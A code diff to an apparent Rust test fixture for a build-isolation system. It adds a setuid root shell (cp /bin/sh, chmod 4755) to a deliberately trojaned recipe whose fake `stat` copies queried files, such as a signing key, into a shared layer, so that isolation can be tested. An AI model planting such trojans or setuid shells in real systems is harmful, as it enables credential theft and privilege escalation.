@@ -36,10 +36,16 @@ fn copy_tree(from: &Path, to: &Path) {
 /// (`stolen-NAME`).
 pub const TROJAN_PLANTED: &str = "trojan-planted";
 
+/// The setuid shell [`trojan_recipe`]'s build code leaves in the buildcache
+/// layer: host root's, were host root mapped into the instance.
+pub const TROJAN_SHELL: &str = "rootshell";
+
 /// The hello recipe whose install stage, like a bad upstream release, plants
 /// a `stat` ahead of the real one in its instance that copies every file it
-/// is asked about into the buildcache layer. The test recipe's publish.sh asks
-/// it about the signing key: only a publish in the same instance is robbed.
+/// is asked about into the buildcache layer, and leaves a setuid shell there.
+/// The test recipe's publish.sh asks `stat` about the signing key: only a
+/// publish in the same instance is robbed; the shell is host root's only
+/// where host root is the instance's.
 pub fn trojan_recipe(root: &Path) -> PathBuf {
     let install = std::fs::read_to_string(hello_recipe().join("scripts/install.sh.j2"))
         .expect("reading the hello recipe");
@@ -55,6 +61,9 @@ done
 exec /usr/bin/stat "$@"
 SH
 chmod 0755 /usr/local/bin/stat
+# And a root shell for whoever finds it in the mounted dir, as the instance's root.
+cp /bin/sh "$layer/{TROJAN_SHELL}"
+chmod 4755 "$layer/{TROJAN_SHELL}"
 touch "$layer/{TROJAN_PLANTED}"
 "#
     );
